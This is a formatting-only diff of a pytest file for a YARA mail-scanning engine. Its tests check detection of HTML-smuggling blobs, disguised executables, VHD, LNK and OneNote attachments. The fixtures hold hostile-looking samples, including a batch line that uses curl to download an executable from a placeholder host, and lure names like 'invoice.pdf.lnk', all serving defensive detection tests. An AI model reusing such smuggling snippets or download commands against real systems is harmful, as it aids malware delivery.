@@ -27,8 +27,9 @@ else { var a = document.createElement('a'); a.href = URL.createObjectURL(b);
 </script></body></html>"""
 SMUGGLE_URL_ONLY = SMUGGLE_BLOB.replace(b"msSaveOrOpenBlob", b"somethingElse")
 SMUGGLE_ATOB = (
-    b"<html><script>var d = atob('" + base64.b64encode(b"MZ\x90\x00" + bytes(60)) +
-    b"'); save(d);</script></html>"
+    b"<html><script>var d = atob('"
+    + base64.b64encode(b"MZ\x90\x00" + bytes(60))
+    + b"'); save(d);</script></html>"
 )
 SMUGGLE_DATA_URI = (
     b'<html><body><a href="data:application/zip;base64,'
@@ -78,8 +79,11 @@ HITS = {
     "vhd": ("disk.vhd", vhd(), "Disk_Image_VHD"),
     "lnk": ("invoice.pdf.lnk", lnk(), "Windows_Shortcut_LNK"),
     "onenote-hta": ("notes.one", onenote(HTA), "OneNote_Embedded_Executable_Content"),
-    "onenote-bat": ("notes.one", onenote(b"@echo off\r\ncurl -o x.exe http://x\r\n"),
-                    "OneNote_Embedded_Executable_Content"),
+    "onenote-bat": (
+        "notes.one",
+        onenote(b"@echo off\r\ncurl -o x.exe http://x\r\n"),
+        "OneNote_Embedded_Executable_Content",
+    ),
 }
 MISSES = {
     "benign-html": HTML_BENIGN,
@@ -99,8 +103,12 @@ def _mail_zipped(name: str, data: bytes) -> bytes:
     m = EmailMessage()
     m["Subject"] = "documents"
     m.set_content("see attached\n")
-    m.add_attachment(samples.zip_bytes({name: data}), maintype="application", subtype="zip",
-                     filename="documents.zip")
+    m.add_attachment(
+        samples.zip_bytes({name: data}),
+        maintype="application",
+        subtype="zip",
+        filename="documents.zip",
+    )
     return m.as_bytes()
 
 
@@ -117,8 +125,9 @@ async def test_hits_inside_archives_are_content_matches(engine: YaraEngine, case
 
 @pytest.mark.parametrize("case", sorted(MISSES))
 async def test_misses(engine: YaraEngine, case: str) -> None:
-    m = ParsedMessage("m", "t", b"", (), (Part("1", "x", "application/octet-stream",
-                                                 MISSES[case]),))
+    m = ParsedMessage(
+        "m", "t", b"", (), (Part("1", "x", "application/octet-stream", MISSES[case]),)
+    )
     f = await engine.check(m)
     assert (f.outcome, f.symbols) == ("clean", ())
 
